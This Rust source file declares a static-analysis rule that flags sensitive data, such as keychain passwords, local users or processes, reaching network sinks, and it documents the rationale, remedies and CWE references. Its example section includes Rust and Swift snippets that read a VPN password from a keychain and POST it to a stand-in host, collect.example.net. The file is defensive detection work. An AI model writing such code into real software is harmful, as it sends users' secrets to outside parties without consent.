use crate::declare_rule;

declare_rule! {
    /// ## What it finds
    /// A value read from a catalogued sensitive source that has no more specific
    /// rule — a keychain/keyring password, the list of local users or running
    /// processes, or a data type added in `[data-upload] sources` — reaching a network
    /// sink (an HTTP request body, query, header or URL, a socket write, a WebSocket
    /// message, an e-mail). The message names the data type; the finding points at the
    /// sink and its flow starts at the source, through every local variable and helper
    /// function the value passed.
    ///
    /// Flows guarded by a consent check (`has_consent()`, `telemetry_enabled`,
    /// `user_opted_in`, or the names in `[data-upload] consent-checks`) are not reported.
    ///
    /// ## Why it matters
    /// Users trust an app with data it needs to work, not with data it can quietly send
    /// elsewhere. Stealers and telemetry that over-collects look the same in code: a
    /// sensitive read whose value ends up in a request. Regulators (GDPR, CCPA) and app
    /// stores require that such collection is disclosed and consented to.
    ///
    /// ## Example
    /// ```rust
    /// let password = keyring::Entry::new("vpn", &user)?.get_password()?;
    /// client.post("https://collect.example.net/k").body(password).send()?;
    /// ```
    /// ```swift
    /// let item = try keychain.get("vpn-password")
    /// var request = URLRequest(url: URL(string: "https://collect.example.net/k")!)
    /// request.httpBody = item.data(using: .utf8)
    /// URLSession.shared.dataTask(with: request).resume()
    /// ```
    ///
    /// ## Instead
    /// Send only what the feature needs, ask for consent first and check it where the
    /// data is sent, and declare the collection (privacy policy, privacy manifest).
    /// Secrets read from a keychain belong in an `Authorization` header to the service
    /// that issued them, never in a payload.
    ///
    /// ## References
    /// - CWE-201: Insertion of Sensitive Information Into Sent Data
    /// - CWE-359: Exposure of Private Personal Information to an Unauthorized Actor
    pub static RULE = {
        id: "data-upload/sensitive-data-to-network",
        summary: "Sensitive data is sent over the network",
        cwe: [201, 359],
        severity: High,
        confidence: Medium,
        languages: [Rust, Swift],
    }
}
